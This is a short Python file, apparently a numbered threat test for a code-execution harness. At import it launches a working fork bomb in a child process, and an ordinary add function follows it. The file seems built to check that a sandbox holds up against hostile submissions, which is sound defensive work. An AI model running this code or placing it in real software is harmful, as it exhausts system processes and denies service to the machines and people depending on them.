"""Threat 21: a fork bomb in a child; the harness itself carries on."""

import os
import time

if os.fork() == 0:
    try:
        while True:
            os.fork()
    except OSError:
        time.sleep(60)
    os._exit(0)
time.sleep(2)


def add(a, b):
    return a + b
